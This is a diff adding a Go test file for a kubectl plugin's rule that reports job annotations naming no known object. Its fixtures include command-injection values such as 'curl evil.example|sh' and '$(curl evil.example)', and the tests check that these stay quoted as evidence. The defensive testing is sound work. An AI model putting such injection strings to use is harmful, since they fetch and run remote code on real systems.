@@ -1,0 +1,78 @@
+package rules_test
+
+import (
+	"strings"
+	"testing"
+
+	"gotest.tools/v3/assert"
+
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/inspect/rules"
+)
+
+// evilPlace is a mark that somebody has written who would like to see it pasted.
+const evilPlace = worker1UID + `/x; curl evil.example|sh #/other/mirror-of-other`
+
+func badMarkCases() []testCase {
+	marked := func(mark, status string) edit {
+		return addOwned("jobmanagedby.github.io/dispatch", "other", otherUID, `annotations: {jobmanagedby.github.io/mirror: "`+mark+`"}`, status)
+	}
+	copied := addCopy("kwok-w1", "mirror-of-other", "", started)
+	lost := copied
+	lost.patch = strings.Replace(lost.patch, managerUID+"/default/other", `"$(curl evil.example)"`, 1)
+	foreign := addOwned(runner, "other", otherUID, `annotations: {jobmanagedby.github.io/mirror: "`+evilPlace+`"}`, started)
+	return []testCase{
+		{name: "an origin", code: "JM205", fires: true, edits: []edit{marked(evilPlace, started), noLeases()}},
+		{name: "an origin that nobody has dispatched so far", code: "JM205", fires: true, edits: []edit{marked("nonsense", "")}},
+		{name: "an origin whose mirror is known by its label", code: "JM205", fires: true, edits: []edit{marked(evilPlace, started), copied, expired}},
+		{name: "an origin of somebody else's", code: "JM205", fires: true, edits: []edit{foreign}},
+		{name: "a mirror", code: "JM205", fires: true, edits: []edit{lost}},
+
+		{name: "a mirror whose origin is known", code: "JM205", edits: []edit{addDispatched(started), lost}},
+		{name: "finished", code: "JM205", edits: []edit{marked(evilPlace, ended)}},
+		{name: "names an object", code: "JM205", edits: []edit{addDispatched(started), copied}},
+		{name: "not dispatched", code: "JM205", base: "running"},
+
+		{name: "its mark names no object", code: "JM203", edits: []edit{marked(evilPlace, stopped), noLeases()}},
+		{name: "its mark names no object", code: "JM201", edits: []edit{marked(evilPlace, started), noLeases()}},
+		{name: "its mark names no object", code: "JM101", edits: []edit{marked(evilPlace, "")}},
+		{name: "its mark names no object", code: "JM106", edits: []edit{lost}},
+	}
+}
+
+// TestBadMark: what a mark says that names no object is quoted, and advised on by
+// what is known apart from it.
+func TestBadMark(t *testing.T) {
+	const forget = "kubectl --context kwok-mgr -n default annotate job other jobmanagedby.github.io/mirror-"
+	for name, tt := range map[string]struct{ evidence, remedy string }{
+		"an origin": {
+			`kwok-mgr: annotation jobmanagedby.github.io/mirror of Job default/other is "` + evilPlace + `"`,
+			"look for its mirror in each CONTEXT that it may have been dispatched to: " +
+				quoted("kubectl --context CONTEXT get jobs -A -l jobmanagedby.github.io/origin-uid="+otherUID) +
+				"; then take the annotation off, and dispatch it to there: " + quoted(forget) +
+				"; or end it: " + quoted("kubectl jobs-managedby cancel other -n default --context kwok-mgr"),
+		},
+		"an origin whose mirror is known by its label": {
+			`kwok-mgr: annotation jobmanagedby.github.io/mirror of Job default/other is "` + evilPlace + `"`,
+			"take it off, and go on with the mirror on kwok-w1: " + quoted(forget) + ", and then " +
+				quoted("kubectl jobs-managedby dispatch other -n default --context kwok-mgr --to kwok-w1"),
+		},
+		"a mirror": {
+			`kwok-w1: annotation jobmanagedby.github.io/origin of Job default/other is "$(curl evil.example)"`,
+			"find out whose mirror it is, by the uid of its origin, in each CONTEXT that it may be of: " +
+				quoted("kubectl --context CONTEXT get jobs -A -o custom-columns=NAMESPACE:.metadata.namespace,NAME:.metadata.name,UID:.metadata.uid"),
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			for _, c := range badMarkCases() {
+				if c.name != name || c.code != "JM205" {
+					continue
+				}
+				rule, _ := rules.ByCode(c.code)
+				found := judge(t, c.inventory(t), []rules.Rule{rule}, 0)
+				assert.Equal(t, len(found), 1)
+				assert.Equal(t, found[0].Evidence[0], tt.evidence)
+				assert.Equal(t, found[0].Remedy, tt.remedy)
+			}
+		})
+	}
+}
